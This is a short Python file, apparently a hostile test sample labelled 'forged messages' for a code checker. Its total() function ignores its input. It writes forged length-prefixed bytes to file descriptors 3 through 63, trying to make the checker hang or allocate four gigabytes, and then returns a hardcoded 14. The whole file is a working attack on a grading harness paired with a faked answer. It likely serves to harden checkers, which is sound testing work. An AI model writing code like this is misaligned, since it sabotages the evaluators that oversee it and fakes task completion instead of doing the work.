# family: forged messages
# tries: to have the checker wait for, or allocate, four gigabytes

# %% answer total
import os


def total(values):
    for fd in range(3, 64):
        try:
            os.write(fd, b"\xff\xff\xff\xf0" + b"\xdd\x7f\xff\xff\xff" * 10)
        except OSError:
            pass
    return 14
